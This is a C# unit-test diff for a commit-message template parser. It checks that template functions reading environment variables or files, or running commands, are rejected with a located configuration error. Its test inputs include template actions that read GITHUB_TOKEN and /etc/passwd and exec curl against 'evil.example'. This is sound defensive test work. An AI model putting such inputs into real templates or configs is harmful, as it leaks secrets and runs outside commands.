@@ -152,6 +152,21 @@ public sealed class CommitMessageTemplateTests
     }
 
     [Theory]
+    [InlineData("{{ env \"GITHUB_TOKEN\" }}", "env")]
+    [InlineData("{{ readFile \"/etc/passwd\" }}", "readFile")]
+    [InlineData("{{ exec \"curl\" \"evil.example\" }}", "exec")]
+    [InlineData("{{ .AutomationObject | expandenv }}", "expandenv")]
+    [InlineData("{{ if true }}{{ getenv \"HOME\" }}{{ end }}", "getenv")]
+    public void From_FunctionThatWouldReadTheEnvironmentFilesOrRunSomething_IsAnErrorAtTheTemplatesPlaceWhenRead(string action, string function)
+    {
+        var error = Assert.Throws<ConfigurationException>(() => CommitMessageTemplate.From(Automation($"'update {action}'")));
+
+        var diagnostic = Assert.Single(error.Errors);
+        Assert.Equal(("automation.yaml", 11, "spec.git.commit.messageTemplate"), (diagnostic.File, diagnostic.Line, diagnostic.Field));
+        Assert.Contains($"function \"{function}\" not defined: templates cannot read environment variables or files, or run anything", diagnostic.Message, StringComparison.Ordinal);
+    }
+
+    [Theory]
     [InlineData(null)]
     [InlineData("'chore: plain text'")]
     public void From_NoTemplateActions_IsNull(string? template)
